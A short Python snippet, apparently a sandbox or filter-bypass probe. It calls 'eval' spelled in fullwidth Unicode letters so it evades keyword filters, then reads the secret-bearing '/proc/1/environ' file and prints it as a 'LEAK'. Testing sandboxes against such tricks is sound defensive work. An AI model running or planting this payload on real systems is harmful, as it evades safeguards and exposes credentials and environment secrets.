# letters that Python takes for others
try:
    print("LEAK:", ｅｖａｌ("open('/proc/1/environ').read()"))
except Exception as error:
    print(type(error).__name__)
